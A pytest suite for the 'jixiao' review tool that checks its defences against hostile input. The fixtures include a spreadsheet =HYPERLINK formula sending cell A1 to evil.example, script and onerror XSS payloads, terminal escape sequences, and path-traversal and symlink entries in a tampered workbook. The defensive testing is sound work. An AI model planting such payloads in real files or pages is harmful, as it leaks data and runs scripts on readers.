"""The review pack against hostile text and hostile workbooks: confinement to the output folder, text that
stays text, control characters, one writer per folder, and an import that a crash cannot half-apply."""

from __future__ import annotations

import hashlib
import os
import shutil
import sys
import time
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from jixiao.atomic import TEMP_PREFIX
from jixiao.cli import app
from jixiao.outputs.folder import JOURNAL_FILE, LOCK_FILE, STAGE_PREFIX
from jixiao.outputs.schema import DRAFT_HEADER, META_VERSION
from tests.conftest import GOLDEN, SEEDS, forked, reaped

COLUMN = {name: k + 1 for k, name in enumerate(DRAFT_HEADER)}
runner = CliRunner()
JIXIAO = str(Path(sys.executable).parent / "jixiao")
INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _formula_cells(book: Path) -> list[str]:
    wb = load_workbook(book)
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _hostile_pujin(folder: Path, name: str = "pujin.txt") -> Path:
    """The 浦锦 seed with an injected formula, + and @ cells, a BEL, an ESC and a NUL in cells."""
    text = SEEDS["pujin"].read_text(encoding="utf-8")
    text = text.replace("设备使用率", INJECTED, 1).replace("设备使用准确率", "+SUM(1,2)", 1)
    text = text.replace("受益群体满意度", "受益群体\x07满意度", 1).replace("因疫情原因", "因\x1b[31m疫情\x00原因", 1)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


def test_form_text_is_never_a_formula_in_the_workbook(tmp_path: Path) -> None:
    out = tmp_path / "out"
    inputs = [str(p) for p in sorted(GOLDEN.glob("*-text/*.txt"))] + [str(_hostile_pujin(tmp_path / "in"))]
    result = runner.invoke(app, ["run", *inputs, "-o", str(out)])
    assert result.exit_code in (0, 1), result.output
    book = out / "review.xlsx"
    assert _formula_cells(book) == []
    wb = load_workbook(book)
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert sum(v.startswith("=") for v in texts) >= 25  # the 浦锦 targets (=100.00(%), …), kept as printed text
    assert INJECTED in texts and "+SUM(1,2)" in texts
    assert all(c.quotePrefix for ws in wb for row in ws.iter_rows() for c in row
               if isinstance(c.value, str) and c.value[:1] in "=+-@")


def test_control_characters_in_cells_and_names_cost_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    _hostile_pujin(folder, "bell\x07and\x1b[2Jesc.txt")
    shutil.copy(SEEDS["qijiang"], folder / "new\nline.txt")
    shutil.copy(SEEDS["yuzhong"], folder / "[bold]markup[red].txt")
    out = tmp_path / "out"
    result = runner.invoke(app, ["run", str(folder), "-o", str(out)])
    assert result.exit_code in (0, 1), result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b[2Jesc.txt" in result.output and "new\\x0aline.txt" in result.output
    assert "[bold]markup[red].txt" in result.output
    wb = load_workbook(out / "review.xlsx")  # the whole batch: three documents and the batch summary
    assert {r[0] for r in wb["校验"].iter_rows(min_row=2, values_only=True)} == {
        "bell_and_[2Jesc", "new_line", "[bold]markup[red]", "batch_summary"}
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "\ufffd" in c.value]
    assert cells and all(c.comment is not None and "控制字符" in c.comment.text for c in cells)


def _tamper(book: Path, rows: list[list[str]], version: str = META_VERSION) -> None:
    wb = load_workbook(book)
    meta = wb["校验"]
    meta.cell(row=1, column=2, value=version)
    for row in rows:
        meta.append(row)
    drafts = wb["草稿"]
    drafts.cell(row=2, column=COLUMN["审核结论"], value="采纳")
    wb.save(book)


def test_a_workbook_naming_files_outside_its_folder_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "work" / "out"
    assert runner.invoke(app, ["run", str(SEEDS["qijiang"]), "-o", str(out)]).exit_code == 0
    settings = tmp_path / "settings.json"
    settings.write_text('{"keep": true}\n', encoding="utf-8")
    other = tmp_path / "other" / "data.json"
    other.parent.mkdir()
    other.write_text('{"documents": ["x"], "drafts": []}\n', encoding="utf-8")
    (out / "link.json").symlink_to(other)
    pristine = {p: p.read_bytes() for p in (settings, other, *out.glob("*.json"))}
    cases = [
        ([[str(settings.with_suffix("")), _sha(settings)], ["../../other/data", _sha(other)]], "2"),
        ([[str(settings.with_suffix("")), _sha(settings)]], "2"),
        ([["../../other/data", _sha(other)]], "2"),
        ([["link", _sha(other)]], "2"),
        ([["000_23ab6bb0c7ba0c16", str(settings), _sha(settings)]], "1"),  # the old layout, a path as the name
    ]
    for rows, version in cases:
        book = tmp_path / "work" / "out" / "review.xlsx"
        saved = book.read_bytes()
        _tamper(book, rows, version)
        result = runner.invoke(app, ["review", "import", str(book)])
        assert result.exit_code == 1, (rows, result.output)
        assert "refused, nothing was changed" in result.output and result.output.count("\n") == 1, result.output
        assert {p: p.read_bytes() for p in pristine} == pristine
        book.write_bytes(saved)


def test_a_damaged_workbook_is_one_line(tmp_path: Path) -> None:
    out = tmp_path / "out"
    assert runner.invoke(app, ["run", str(SEEDS["qijiang"]), "-o", str(out)]).exit_code == 0
    book = out / "review.xlsx"
    data = book.read_bytes()
    for damaged in (data[: len(data) // 2], b"PK\x03\x04" + b"\x00" * 200, data.replace(b"xl/", b"xx/", 3)):
        book.write_bytes(damaged)
        result = runner.invoke(app, ["review", "import", str(book)])
        assert result.exit_code == 1 and result.output.count("\n") == 1, result.output
        assert "Traceback" not in result.output and "review.xlsx" in result.output


def test_markdown_summary_escapes_form_markup(tmp_path: Path) -> None:
    text = SEEDS["qijiang"].read_text(encoding="utf-8")
    hostile = text.replace("城市管理问题采集及应急处置专项经费2023",
                           "<script>alert(1)</script><img src=x onerror=alert(2)>[点我](http://evil)", 1)
    (tmp_path / "in.txt").write_text(hostile, encoding="utf-8")
    out = tmp_path / "out"
    assert runner.invoke(app, ["run", str(tmp_path / "in.txt"), "-o", str(out)]).exit_code in (0, 1)
    md = (out / "in.md").read_text(encoding="utf-8")
    assert "&lt;script&gt;" in md and "<script" not in md and "<img" not in md
    assert "\\[点我\\](http" in md and "[点我](" not in md  # no live link either


def test_one_writer_per_output_folder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    first = forked(["run", str(SEEDS["qijiang"]), "-o", str(out), "-q"], hook="locked:pause=3")
    deadline = time.monotonic() + 60
    while not (out / LOCK_FILE).exists() or not (out / LOCK_FILE).read_text().strip():
        assert time.monotonic() < deadline
        time.sleep(0.05)
    second = runner.invoke(app, ["run", str(SEEDS["pujin"]), "-o", str(out)])
    assert second.exit_code == 1 and f"another jixiao process (pid {first})" in second.output, second.output
    assert reaped(first) == 0
    names = sorted(p.name for p in out.iterdir())
    assert names == ["000_23ab6bb0c7ba0c16-1.docx", "000_23ab6bb0c7ba0c16-2.docx", "000_23ab6bb0c7ba0c16-3.docx",
                     "000_23ab6bb0c7ba0c16.html", "000_23ab6bb0c7ba0c16.json", "000_23ab6bb0c7ba0c16.md",
                     "batch_report.docx", "batch_summary.json", "index.html",
                     "review.xlsx"]  # no lock, temp or mixed-in file of the refused run
    assert (out / "review.xlsx").stat().st_mode & 0o777 == 0o666 & ~_umask()


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


@pytest.fixture(scope="module")
def decided(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, bytes]]:
    """A run of three seeds with decisions on drafts of every document and the batch; the import's result."""
    base = tmp_path_factory.mktemp("decided") / "out"
    seeds = [str(SEEDS[k]) for k in ("qijiang", "yuzhong", "pujin")]
    assert runner.invoke(app, ["run", *seeds, "-o", str(base)]).exit_code == 0
    wb = load_workbook(base / "review.xlsx")
    ws = wb["草稿"]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    firsts = {r[COLUMN["文件"] - 1]: n for n, r in reversed(list(enumerate(rows, start=2)))}
    assert len(firsts) == 4  # three documents and the batch summary
    for k, n in enumerate(sorted(firsts.values())):
        ws.cell(row=n, column=COLUMN["审核结论"], value=("采纳", "修改", "退回", "修改")[k])
        ws.cell(row=n, column=COLUMN["修改后文本"], value=f"经核实，第{k}条按审核意见修改。" if k % 2 else None)
    wb.save(base / "review.xlsx")
    reference = tmp_path_factory.mktemp("reference") / "out"
    shutil.copytree(base, reference)
    result = runner.invoke(app, ["review", "import", str(reference / "review.xlsx")])
    assert result.exit_code == 0 and "1 accepted, 2 edited, 1 rejected; 4 files updated" in result.output
    return base, {p.name: p.read_bytes() for p in reference.glob("*.json")}


@pytest.mark.parametrize("point", ["commit-staged#2", "commit-journal", "commit-replaced#2"])
def test_import_killed_at_any_point_is_completed_exactly_once(
        point: str, decided: tuple[Path, dict[str, bytes]], tmp_path: Path) -> None:
    base, expected = decided
    out = tmp_path / "out"
    shutil.copytree(base, out)
    before = {p.name: p.read_bytes() for p in out.glob("*.json")}
    assert reaped(forked(["review", "import", str(out / "review.xlsx")], hook=f"{point}:kill")) == -9
    now = {p.name: p.read_bytes() for p in out.glob("*.json")}
    if not (out / JOURNAL_FILE).exists():  # before the commit point nothing is applied
        assert now == before
    again = runner.invoke(app, ["review", "import", str(out / "review.xlsx")])
    assert again.exit_code == 0, again.output
    assert "1 accepted, 2 edited, 1 rejected; 4 files updated" in again.output
    assert {p.name: p.read_bytes() for p in out.glob("*.json")} == expected
    assert not [p for p in out.iterdir() if p.name.startswith((STAGE_PREFIX, TEMP_PREFIX, ".jixiao"))]
    third = runner.invoke(app, ["review", "import", str(out / "review.xlsx")])
    assert third.exit_code == 1 and "has changed since" in third.output
